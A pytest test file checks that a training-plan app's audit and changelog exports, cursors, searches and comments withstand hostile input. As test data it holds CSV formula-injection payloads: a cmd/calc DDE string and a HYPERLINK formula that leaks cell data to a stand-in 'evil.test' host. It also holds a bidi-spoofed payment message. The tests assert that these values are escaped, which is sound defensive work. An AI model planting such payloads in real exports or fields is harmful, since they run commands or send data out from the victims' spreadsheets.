"""Exports and filters under hostile input (issue 9, points 7, 8, 11 and 12 in part):
naive dates, crafted cursors, CSV formula injection, audited exports, literal search,
NUL and bidi controls in comments. Every test runs on SQLite and PostgreSQL."""

from __future__ import annotations

import base64
import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from sqlalchemy import func
from sqlmodel import select

from db.models import AuditEvent, PlanComment, User, clock_at
from db.session import read_session, unit_of_work
from plangov_app.services import audit, changelog, csv_cells
from plangov_app.services.context import RequestContext
from plangov_app.services.errors import InvalidInput
from plangov_app.services.search import contains_pattern, escape_like
from plangov_app.services.text import clean_text, validate_text
from tests.support.audit_log import chain_ok, events
from tests.support.factories import actor, counts, create_plan, patch, version

COACH, COACH2, ATHLETE = "coach1@demo.test", "coach2@demo.test", "athlete1@demo.test"
ADMIN, COMPLIANCE = "admin@demo.test", "compliance@demo.test"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
PROBLEM = "application/problem+json"


def _total_events() -> int:
    """Events in the chain, besides `access.denied` (refusals are audited elsewhere)."""
    with read_session() as session:
        return session.exec(select(func.count()).select_from(AuditEvent)
                            .where(AuditEvent.action != "access.denied")).one()


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _assert_no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(DANGEROUS) or cell.lstrip("+-").replace(".", "").isdigit(), (
                cell)


def _is_problem(response, statuses: tuple[int, ...] = (400, 422)) -> bool:
    """Bad input: 422 from validation, or 400 when the middleware refused a NUL outright."""
    return (response.status_code in statuses
            and response.headers["content-type"].startswith(PROBLEM)
            and response.json()["status"] == response.status_code)


def _edited_plan(client, token_for, rationale: str = "Short week") -> dict:
    coach = token_for(COACH)
    plan = create_plan(client, coach)
    head = version(client, coach, plan)
    response = patch(client, coach, plan["id"], head["id"], [
        {"op": "replace", "path": "/weeks/0/sessions/0/notes", "value": "=cmd|' /C calc'!A0"},
        {"op": "replace", "path": "/weeks/0/sessions/0/day", "value": "2027-01-10"},
    ], rationale=rationale)
    assert response.status_code == 200, response.text
    return plan


# --- 7. Dates without a time zone are UTC ----------------------------------------------


def _record_at(moment: datetime, action: str) -> None:
    with unit_of_work() as session, clock_at(moment):
        audit.record(session, action=action, context=RequestContext(), metadata={})


def test_naive_dates_are_utc_on_the_audit_list_and_export(client, token_for):
    compliance = token_for(COMPLIANCE)
    for moment in ("2024-01-01T00:30:00", "2024-01-01T23:30:00", "2024-01-02T00:30:00"):
        _record_at(datetime.fromisoformat(moment).replace(tzinfo=UTC), "probe.tz")
    expected = ["2024-01-01T23:30:00Z", "2024-01-01T00:30:00Z"]
    for bounds in ("from=2024-01-01&to=2024-01-02",
                   "from=2024-01-01T00:00:00&to=2024-01-02T00:00:00",
                   "from=2024-01-01T00:00:00Z&to=2024-01-02T00:00:00Z",
                   "from=2024-01-01T01:00:00%2B01:00&to=2024-01-01T19:00:00-05:00"):
        page = client.get(f"/api/v1/audit?action=probe.tz&{bounds}", headers=compliance)
        assert page.status_code == 200, (bounds, page.text)
        times = [e["occurred_at"].replace("+00:00", "Z") for e in page.json()["items"]]
        assert times == expected, bounds

    before = _total_events()
    export = client.get("/api/v1/audit/export?action=probe.tz&from=2024-01-01&to=2024-01-02",
                        headers=compliance)
    assert export.status_code == 200, export.text
    rows = _cells(export.text)
    assert [r[4] for r in rows[1:]] == ["probe.tz", "probe.tz"]
    exports = events("audit.export")
    assert _total_events() == before + 1 and len(exports) == 1
    assert exports[0].metadata_json == (
        '{"action":"probe.tz","date_from":"2024-01-01T00:00:00+00:00",'
        '"date_to":"2024-01-02T00:00:00+00:00"}')
    assert chain_ok()


def test_naive_dates_are_utc_on_the_changelog_json_and_csv(client, token_for):
    coach = token_for(COACH)
    plan = _edited_plan(client, token_for)
    url = f"/api/v1/plans/{plan['id']}/changelog"
    entries = client.get(url, headers=coach).json()["items"]
    stamp = datetime.fromisoformat(entries[0]["created_at"]).astimezone(UTC)
    naive = stamp.replace(tzinfo=None)
    just_after = (naive + timedelta(seconds=1)).isoformat()
    for fmt in ("json", "csv"):
        included = client.get(url, headers=coach,
                              params={"from": naive.isoformat(), "to": just_after,
                                      "format": fmt})
        excluded = client.get(url, headers=coach, params={"from": just_after, "format": fmt})
        assert included.status_code == excluded.status_code == 200, included.text
        if fmt == "json":
            assert len(included.json()["items"]) == len(entries) > 0
            assert excluded.json()["items"] == []
        else:
            assert len(_cells(included.text)) - 1 == len(entries)
            assert len(_cells(excluded.text)) == 1
    for bound in ("9999-12-31T23:59:59-14:00", "0001-01-01T00:00:00+14:00"):
        before = _total_events()
        for fmt in ("json", "csv"):
            response = client.get(url, headers=coach, params={"from": bound, "format": fmt})
            assert _is_problem(response), response.text
        assert _total_events() == before


# --- 7. Crafted cursors are a 422 --------------------------------------------------------


def _b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode()


CHANGELOG_CURSORS = [
    "!!!not base64!!!", "a", _b64(b"x"), _b64(b"1"), _b64(b"|"), _b64(b"1|"),
    _b64(b"99999999999999999999999|8b1c7c38-8f1e-4a4a-9d39-3c1c1d2d1e1f"),
    _b64(b"1|\x00abc"), _b64(b"1|abc\x00"), _b64(b"-1|abc"), _b64(b"1.5|abc"),
    _b64("１|abc".encode()), _b64(b"\xff\xfe|\x80"), _b64(b"1|" + b"a" * 120),
    _b64(b'{"number": 1, "id": "abc"}'), _b64(b"1|ABC DEF"), "ü" * 10,
]


def test_crafted_cursors_are_422_on_the_changelog(client, token_for):
    coach = token_for(COACH)
    plan = _edited_plan(client, token_for)
    url = f"/api/v1/plans/{plan['id']}/changelog"
    first = client.get(url, headers=coach, params={"limit": 1}).json()
    assert first["next_cursor"]
    second = client.get(url, headers=coach, params={"limit": 1, "cursor": first["next_cursor"]})
    assert second.status_code == 200 and second.json()["items"] != first["items"]
    for cursor in CHANGELOG_CURSORS:
        response = client.get(url, headers=coach, params={"cursor": cursor})
        assert _is_problem(response), (cursor, response.status_code, response.text)
        assert response.json()["detail"].startswith("cursor:") or "NUL" in response.text


def test_crafted_cursors_are_422_on_the_audit_log(client, token_for):
    compliance = token_for(COMPLIANCE)
    for cursor in ("abc", "-1", "1" * 13, "\x00", "1\x00", "１２", "٣", "1.5", " 1",
                   "99999999999999999999", "999999999999", "2147483648"):
        response = client.get("/api/v1/audit", headers=compliance, params={"cursor": cursor})
        assert _is_problem(response), (cursor, response.text)
    assert client.get("/api/v1/audit", headers=compliance,
                      params={"cursor": "2147483647"}).json()["items"]
    reader = actor(COMPLIANCE)
    with read_session() as session:
        for before_seq in (-1, 2**31, 10**30):
            with pytest.raises(InvalidInput):
                audit.list_events(session, reader, audit.AuditFilter(), before_seq=before_seq)


# --- 7 and 11. Exports are audited once they have succeeded -------------------------------


def test_audit_export_is_recorded_only_when_it_succeeds(client, token_for):
    compliance, coach = token_for(COMPLIANCE), token_for(COACH)
    refused = [{"actor_id": "\x00"}, {"target_id": "a\x00b"}, {"action": "auth\x00"},
               {"from": "9999-12-31T23:59:59-14:00"}, {"from": "2024-13-01"}]
    before = _total_events()
    for params in refused:
        response = client.get("/api/v1/audit/export", headers=compliance, params=params)
        assert _is_problem(response), (params, response.text)
        assert _is_problem(client.get("/api/v1/audit", headers=compliance, params=params))
    assert _total_events() == before and events("audit.export") == []
    assert client.get("/api/v1/audit/export", headers=coach).status_code == 403
    assert _total_events() == before

    done = client.get("/api/v1/audit/export", headers=compliance,
                      params={"from": "2024-01-01", "action": "auth."})
    assert done.status_code == 200
    exports = events("audit.export")
    assert len(exports) == 1 and exports[0].actor_id == actor(COMPLIANCE).user_id
    assert _total_events() == before + 1 and chain_ok()


def test_the_audit_pages_export_is_recorded_only_when_it_succeeds(client, token_for):
    token_for(COMPLIANCE), token_for(ADMIN)
    exporter = actor(COMPLIANCE)
    with pytest.raises(InvalidInput):
        audit.AuditFilter(actor_id="bad\x00")
    before = _total_events()
    with unit_of_work() as session:
        data, written, more = audit.export_csv(
            session, exporter, audit.AuditFilter(date_from=datetime(2024, 1, 1), action="auth."),
            RequestContext(), limit=1, described={"action": "auth."})
    assert written == 1 and more and len(_cells(data)) == 2
    assert _total_events() == before + 1 and len(events("audit.export")) == 1
    assert chain_ok()


def test_changelog_exports_are_audited_once_they_succeed(client, token_for):
    coach, other = token_for(COACH), token_for(COACH2)
    plan = _edited_plan(client, token_for)
    url = f"/api/v1/plans/{plan['id']}/changelog"
    before = _total_events()
    assert client.get(url, headers=coach).status_code == 200
    assert client.get(url, headers=other, params={"format": "csv"}).status_code == 404
    for params in ({"user": "\x00"}, {"from": "0001-01-01T00:00:00+14:00"},
                   {"change_type": "exploded"}):
        response = client.get(url, headers=coach, params={**params, "format": "csv"})
        assert _is_problem(response), (params, response.text)
    assert _total_events() == before and events("plan.changelog_export") == []

    export = client.get(url, headers=coach, params={"format": "csv", "from": "2024-01-01",
                                                     "change_type": "modified"})
    assert export.status_code == 200 and export.headers["content-type"].startswith("text/csv")
    assert len(_cells(export.text)) > 1
    recorded = events("plan.changelog_export")
    assert _total_events() == before + 1 and len(recorded) == 1
    event = recorded[0]
    assert (event.target_type, event.target_id, event.actor_id) == (
        "plan", plan["id"], actor(COACH).user_id)
    assert event.metadata_json == ('{"change_type":"modified",'
                                   '"date_from":"2024-01-01T00:00:00+00:00","format":"csv"}')

    with unit_of_work() as session:
        text = changelog.export_csv(session, actor(COACH), plan["id"],
                                    changelog.ChangelogFilter(), RequestContext())
    assert len(_cells(text)) > 1
    assert len(events("plan.changelog_export")) == 2 and chain_ok()


# --- 8. CSV formula injection ------------------------------------------------------------


def test_audit_csv_cells_cannot_run_as_formulas(client, token_for):
    hostile_user = '=HYPERLINK("http://evil.test/?"&A1,"Click")'
    hostile_agent = "@SUM(1+1)*cmd|' /C calc'!A0"
    response = client.post("/api/v1/auth/token", headers={"User-Agent": hostile_agent},
                           data={"username": hostile_user, "password": "x"})
    assert response.status_code == 401
    with unit_of_work() as session:
        audit.record(session, action="probe.csv", target_type="+plan", target_id="-2+3",
                     context=RequestContext(user_agent="\tTAB", origin_ip="\r10.0.0.1"),
                     metadata={"n": -1})
    export = client.get("/api/v1/audit/export", headers=token_for(COMPLIANCE))
    assert export.status_code == 200
    rows = _cells(export.text)
    _assert_no_formula(rows)
    cells = {cell for row in rows for cell in row}
    assert {"'" + hostile_agent, "'+plan", "'-2+3", "'\tTAB", "'\r10.0.0.1"} <= cells
    assert any(cell.lower().startswith("'=hyperlink") for cell in cells)

    with unit_of_work() as session:
        data, _, _ = audit.export_csv(session, actor(COMPLIANCE), audit.AuditFilter(),
                                      RequestContext(), limit=10_000)
    page_rows = _cells(data)
    _assert_no_formula(page_rows)
    assert {"'+plan", "'-2+3", "'\r10.0.0.1"} <= {c for row in page_rows for c in row}
    assert chain_ok()


def test_changelog_csv_cells_cannot_run_as_formulas(client, token_for):
    coach = token_for(COACH)
    plan = _edited_plan(client, token_for, rationale="@SUM(A1:A9)")
    entries = client.get(f"/api/v1/plans/{plan['id']}/changelog", headers=coach).json()["items"]
    export = client.get(f"/api/v1/plans/{plan['id']}/changelog?format=csv", headers=coach)
    rows = _cells(export.text)
    _assert_no_formula(rows)
    header = rows[0]
    rationale = header.index("rationale")
    assert {row[rationale] for row in rows[1:]} == {"'@SUM(A1:A9)"}
    assert len(rows) - 1 == len(entries)
    by_path = {row[header.index("field_path")]: row for row in rows[1:]}
    notes = next(row for path, row in by_path.items() if path.endswith("/notes"))
    assert notes[header.index("new_value")] == '"=cmd|\' /C calc\'!A0"'  # JSON text: a string


def test_the_csv_writer_changes_only_dangerous_cells():
    rows = [["=1+2", "+x", "-x", "@x", "\tx", "\rx", "-2.5", "+3", "-", "1e5", "a=b", "", None,
             -7, 3.5, "plain, with comma", 'quote " inside', "line\nbreak", " =lead"]]
    safe, plain = io.StringIO(), io.StringIO()
    csv_cells.writer(safe).writerows(rows)
    csv.writer(plain).writerows([["'=1+2", "'+x", "'-x", "'@x", "'\tx", "'\rx", *rows[0][6:8],
                                  "'-", *rows[0][9:]]])
    assert safe.getvalue() == plain.getvalue()


# --- 12. Literal search, NUL and bidi controls ---------------------------------------------


def test_percent_and_underscore_are_searched_literally(client, token_for, session):
    admin = token_for(ADMIN)
    session.add(User(email="odd_name@demo.test", display_name="Effort 100%", role="athlete",
                     password_hash="x"))
    session.commit()
    everyone = client.get("/api/v1/users", headers=admin, params={"limit": 100}).json()["total"]
    assert everyone > 20

    def emails(search: str) -> list[str]:
        response = client.get("/api/v1/users", headers=admin, params={"search": search})
        assert response.status_code == 200, response.text
        return [u["email"] for u in response.json()["items"]]

    assert emails("%") == emails("100%") == emails("_") == ["odd_name@demo.test"]
    assert emails("d_n") == ["odd_name@demo.test"]
    assert emails("h_") == emails("ach%") == emails("\\") == []
    assert "coach1@demo.test" in emails("coach1")
    assert _is_problem(client.get("/api/v1/users", headers=admin, params={"search": "a\x00"}))

    compliance = token_for(COMPLIANCE)
    logins = client.get("/api/v1/audit", headers=compliance, params={"action": "auth."}).json()
    assert logins["items"]
    for wildcard in ("auth%", "%", "auth.logi_", "_uth"):
        page = client.get("/api/v1/audit", headers=compliance, params={"action": wildcard})
        assert page.status_code == 200 and page.json()["items"] == [], wildcard


def test_comments_refuse_nul_and_lose_bidi_controls_but_nothing_visible(client, token_for,
                                                                         session):
    coach, athlete = token_for(COACH), token_for(ATHLETE)
    plan = create_plan(client, coach)
    url = f"/api/v1/plans/{plan['id']}/comments"
    before = counts(session)
    for message in ("before\x00after", "\x00", "ok\x00"):
        response = client.post(url, headers=athlete, json={"message": message})
        assert _is_problem(response), response.text
    assert counts(session) == before

    typed = "Pay \u202eusd 0001\u202c to שלום 🙂 \u2066isolated\u2069 — \u200fdone"
    response = client.post(url, headers=athlete, json={"message": typed})
    assert response.status_code == 201, response.text
    visible = "Pay usd 0001 to שלום 🙂 isolated — \u200fdone"
    assert response.json()["message"] == visible
    session.rollback()
    stored = session.exec(select(PlanComment.message)
                          .where(PlanComment.id == response.json()["id"])).one()
    assert stored == visible
    listed = client.get(url, headers=coach).json()
    assert [c["message"] for c in listed] == [visible]
    after = counts(session)
    assert after["plan_comments"] == before["plan_comments"] + 1
    assert after["audit_events"] == before["audit_events"] + 1 and chain_ok()


def test_text_and_pattern_helpers():
    assert escape_like("a%b_c\\d") == "a\\%b\\_c\\\\d"
    assert contains_pattern("50%") == "%50\\%%"
    assert clean_text("a\u202ab\u202ec\u2066d\u2069e", "x") == "abcde"
    with pytest.raises(InvalidInput, match="message: must not contain NUL"):
        clean_text("a\x00", "message")
    with pytest.raises(InvalidInput):
        clean_text("a\ud800", "message")
    assert validate_text("x\u2067y") == "xy"
    with pytest.raises(ValueError, match=r"^must not contain NUL"):
        validate_text("\x00")
